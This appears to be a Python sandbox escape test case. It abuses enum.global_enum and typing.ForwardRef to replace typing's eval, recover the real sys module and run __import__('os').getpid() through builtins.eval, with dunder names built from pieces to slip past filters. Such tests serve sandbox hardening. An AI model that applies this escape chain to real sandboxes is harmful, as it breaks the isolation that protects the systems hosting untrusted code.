# technique: enum.global_enum(E) writes E's members into sys.modules[E.__module__]'s namespace: with module='typing' and functools.partial as the member type, a callable member replaces typing's (patched) eval, and typing hands it its own globals, which hold the real sys
# configs: default, common
# With nothing allowed `import enum` is refused.
import enum
import functools
import typing
seen = []
def spy(*args):
    seen.append(args)
    return int
E = enum.Enum('E', {'eval': functools.partial(spy)}, module='typing', type=functools.partial)
enum.global_enum(E)
typing.ForwardRef('x', module='typing')._evaluate(None, None, recursive_guard=frozenset())
real_sys = seen[0][1]['sys']
u = '_' * 2
b = real_sys.modules['builtins']
pid = b.eval(u + 'import' + u + "('os').getpid()", {u + 'builtins' + u: b})
return [{'json': {'escaped': [repr(real_sys), pid]}}]
